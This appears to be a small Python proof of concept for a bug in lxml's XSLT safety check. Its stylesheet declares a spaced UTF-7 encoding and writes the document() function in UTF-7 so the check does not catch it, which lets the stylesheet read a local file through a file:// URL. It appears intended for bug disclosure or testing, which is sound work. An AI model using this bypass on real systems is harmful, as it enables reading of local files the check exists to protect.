# stylesheet.cc isPlainStylesheet: 'encoding = "UTF-7"' with spaces is not found, and document() is written in UTF-7
from lxml import etree
x = b'<?xml version="1.0" encoding = "UTF-7"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><a><xsl:copy-of select="+AGQ-ocument(\'file:///usr/share/maven-repo/org/apache/apache./debian/apache.-debian-site.xml\')"/></a></xsl:template></xsl:stylesheet>'
t = etree.XSLT(etree.XML(x))
print(str(t(etree.XML("<b/>"))))
